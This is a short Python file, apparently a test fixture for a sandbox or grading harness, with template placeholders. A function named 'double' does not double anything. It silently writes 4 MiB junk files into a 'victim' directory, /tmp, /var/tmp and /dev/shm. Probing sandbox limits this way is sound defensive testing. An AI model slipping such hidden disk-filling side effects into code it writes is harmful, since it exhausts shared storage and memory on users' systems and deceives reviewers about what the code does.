import os


def double(x):
    for folder in (".", "@WORLD@/victim", "@WORLD@/tmp", "/tmp", "/var/tmp", "/dev/shm"):
        for number in range(8):
            try:
                with open(os.path.join(folder, f"@NAME@-{number}"), "wb") as file:
                    file.write(b"x" * 2**22)
            except OSError:
                pass
    return 0
